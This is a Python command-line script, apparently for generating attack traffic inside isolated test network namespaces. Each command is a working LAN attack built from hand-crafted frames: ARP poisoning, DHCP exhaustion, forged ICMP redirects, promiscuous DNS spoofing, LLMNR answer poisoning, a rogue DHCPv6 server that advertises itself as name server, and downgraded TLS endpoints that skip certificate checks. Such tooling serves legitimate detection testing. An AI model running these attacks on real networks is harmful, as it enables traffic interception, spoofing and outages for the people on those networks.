"""What an intruder on a local network does, one command each, on interface eth0 of the namespace it is run in.

``python rogue.py COMMAND WORDS…``; only for namespaces that lead nowhere. Frames are made by hand after the RFCs, because
an honest stack does not send them.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

INTERFACE = "eth0"
_LLMNR = ("224.0.0.252", 5355)


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _own_mac() -> bytes:
    return _mac(Path(f"/sys/class/net/{INTERFACE}/address").read_text().strip())


def _wire() -> socket.socket:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind((INTERFACE, 0))
    return wire


def _sum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def _ipv4(source: str, destination: str, protocol: int, payload: bytes) -> bytes:
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0x1234, 0, 64, protocol, 0)
    head += socket.inet_aton(source) + socket.inet_aton(destination)
    return head[:10] + struct.pack("!H", _sum(head)) + head[12:] + payload


def poison(times: str, *pairs: str) -> None:
    """ARP replies that nobody asked for. PAIRS: posed address, victim's address, victim's hardware address, and so on."""
    own, wire = _own_mac(), _wire()
    for _ in range(int(times)):
        for posed, victim, victim_mac in zip(pairs[::3], pairs[1::3], pairs[2::3], strict=True):
            body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(posed)
            wire.send(_mac(victim_mac) + own + b"\x08\x06" + body + _mac(victim_mac) + socket.inet_aton(victim))
        time.sleep(0.2)


def exhaust(times: str) -> None:
    """Ask for an address again and again, each time as another machine (RFC 2131)."""
    wire = _wire()
    for number in range(int(times)):
        posed = b"\x02\x99" + struct.pack("!I", number * 2654435761 % 2**32)
        ask = struct.pack("!BBBBIHH", 1, 1, 6, 0, 0x51000000 + number, 0, 0x8000) + b"\0" * 16 + posed + b"\0" * 202
        ask += bytes.fromhex("63825363") + b"\x35\x01\x01\x37\x02\x03\x06\xff"
        datagram = struct.pack("!HHHH", 68, 67, 8 + len(ask), 0) + ask
        wire.send(b"\xff" * 6 + posed + b"\x08\x00" + _ipv4("0.0.0.0", "255.255.255.255", 17, datagram))
        time.sleep(0.01)


def redirect(router: str, victim: str, victim_mac: str, destination: str, gateway: str, times: str) -> None:
    """ICMP redirects in the router's name: reach DESTINATION through GATEWAY (RFC 792)."""
    own, wire = _own_mac(), _wire()
    original = _ipv4(victim, destination, 17, struct.pack("!HHHH", 40000, 53, 8, 0))
    for _ in range(int(times)):
        body = struct.pack("!BBH", 5, 1, 0) + socket.inet_aton(gateway) + original
        body = body[:2] + struct.pack("!H", _sum(body)) + body[4:]
        wire.send(_mac(victim_mac) + own + b"\x08\x00" + _ipv4(router, victim, 1, body))
        time.sleep(0.1)


def _question(message: bytes) -> tuple[str, int, int]:
    """Name, type and end of the first question of a DNS message."""
    labels, at = [], 12
    while message[at]:
        labels.append(message[at + 1 : at + 1 + message[at]].decode("ascii", "replace"))
        at += 1 + message[at]
    return ".".join(labels), struct.unpack_from("!H", message, at + 1)[0], at + 5


def _answer(query: bytes, address: str, flags: int = 0x8580) -> bytes:
    end = _question(query)[2]
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(address)
    return query[:2] + struct.pack("!HHHHH", flags, 1, 1, 0, 0) + query[12:end] + record


def forge(name: str, address: str, seconds: str) -> None:
    """Answer every query for NAME that passes by, in the resolver's name, before it does."""
    wire = _wire()
    wire.setsockopt(263, 1, struct.pack("iHH8s", socket.if_nametoindex(INTERFACE), 1, 0, b""))  # SOL_PACKET: promiscuous
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        wire.settimeout(max(end - time.monotonic(), 0.01))
        try:
            frame = wire.recv(2048)
        except TimeoutError:
            return
        if frame[12:14] != b"\x08\x00" or frame[23] != 17 or frame[36:38] != b"\x00\x35":
            continue
        query = frame[42:]
        asked, kind, _ = _question(query)
        if asked.lower() != name or kind != 1:
            continue
        answer = _answer(query, address)
        datagram = struct.pack("!HHHH", 53, struct.unpack("!H", frame[34:36])[0], 8 + len(answer), 0) + answer
        packet = _ipv4(socket.inet_ntoa(frame[30:34]), socket.inet_ntoa(frame[26:30]), 17, datagram)
        wire.send(frame[6:12] + frame[0:6] + b"\x08\x00" + packet)


def respond(own: str, names: str, seconds: str) -> None:
    """Answer link-local multicast name queries (RFC 4795) with the own address: for NAMES (comma), or ``*`` for all."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("", _LLMNR[1]))
    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(_LLMNR[0]) + socket.inet_aton(own))
    listener.settimeout(float(seconds))
    try:
        while True:
            query, asker = listener.recvfrom(2048)
            if names == "*" or _question(query)[0].lower() in names.split(","):
                listener.sendto(_answer(query, own, 0x8000), asker)
    except TimeoutError:
        return


def ask_neighbours(own: str, *names: str) -> None:
    """What a Windows computer does when the name server does not know a name: ask everybody nearby."""
    for number, name in enumerate(names):
        asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        asker.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        asker.bind((own, 0))
        asker.settimeout(0.4)
        question = bytes([len(name)]) + name.encode() + b"\0" + struct.pack("!HH", 1, 1)
        asker.sendto(struct.pack("!HHHHHH", 100 + number, 0, 1, 0, 0, 0) + question, _LLMNR)
        with contextlib.suppress(TimeoutError):
            asker.recv(2048)
        asker.close()


def lease_v6(own: str, seconds: str) -> None:
    """Answer DHCPv6 solicitations and requests (RFC 8415): a link-local address, and oneself as name server."""
    listener = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    listener.bind(("::", 547))
    index = socket.if_nametoindex(INTERFACE)
    group = socket.inet_pton(socket.AF_INET6, "ff02::1:2") + struct.pack("@I", index)
    listener.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, group)
    listener.settimeout(float(seconds))
    identity = struct.pack("!HH", 3, 1) + _own_mac()
    try:
        while True:
            query, asker = listener.recvfrom(2048)
            options = dict(_options(query[4:]))
            leased = socket.inet_pton(socket.AF_INET6, "fe80::10:71:0:99") + struct.pack("!II", 300, 300)
            association = options.get(3, b"\0" * 12)[:4] + struct.pack("!II", 200, 250) + _option(5, leased)
            answer = bytes([2 if query[0] == 1 else 7]) + query[1:4]
            answer += _option(1, options.get(1, b"")) + _option(2, identity) + _option(3, association)
            answer += _option(23, socket.inet_pton(socket.AF_INET6, own))
            listener.sendto(answer, asker)
    except TimeoutError:
        return


def ask_v6() -> None:
    """Ask for DHCPv6 settings as Windows does all the time: solicit, then request."""
    asker = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    index = socket.if_nametoindex(INTERFACE)
    asker.bind(("::", 546, 0, index))
    asker.settimeout(1)
    asker.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
    identity = _option(1, struct.pack("!HH", 3, 1) + _own_mac()) + _option(3, struct.pack("!III", 7, 0, 0))
    for kind in (1, 3):
        asker.sendto(bytes([kind, 0, 0, kind]) + identity + _option(6, b"\0\x17"), ("ff02::1:2", 547, 0, index))
        try:
            asker.recv(2048)
        except TimeoutError:
            return


def _option(code: int, value: bytes) -> bytes:
    return struct.pack("!HH", code, len(value)) + value


def _options(data: bytes) -> list[tuple[int, bytes]]:
    found = []
    while len(data) >= 4:
        code, length = struct.unpack_from("!HH", data)
        found.append((code, data[4 : 4 + length]))
        data = data[4 + length :]
    return found


def serve_tls(address: str, certificate: str, version: str, seconds: str) -> None:
    """A TLS server on port 443 that greets and closes. VERSION: the newest it speaks (1.0 or 1.2)."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    _versions(context, version)
    context.load_cert_chain(certificate)
    listener = socket.create_server((address, 443))
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        listener.settimeout(max(end - time.monotonic(), 0.01))
        try:
            plain, _ = listener.accept()
            plain.settimeout(5)
            with context.wrap_socket(plain, server_side=True) as secured:
                secured.sendall(b"220 ready\r\n")
        except OSError:
            continue


def visit_tls(address: str, name: str, version: str) -> None:
    """Open a TLS connection as a browser does that trusts everybody."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    _versions(context, version)
    with (
        socket.create_connection((address, 443), timeout=5) as plain,
        context.wrap_socket(plain, server_hostname=name) as secured,
    ):
        secured.recv(100)


def _versions(context: ssl.SSLContext, newest: str) -> None:
    context.set_ciphers("ALL:@SECLEVEL=0")
    context.minimum_version = ssl.TLSVersion.TLSv1
    context.maximum_version = ssl.TLSVersion.TLSv1_2 if newest == "1.2" else ssl.TLSVersion.TLSv1


def main(command: str, *words: str) -> None:
    """Run one command."""
    known: dict[str, Callable[..., None]] = {
        act.__name__: act
        for act in (poison, exhaust, redirect, forge, respond, ask_neighbours, lease_v6, ask_v6, serve_tls, visit_tls)
    }
    known[command](*words)


if __name__ == "__main__":
    main(*sys.argv[1:])
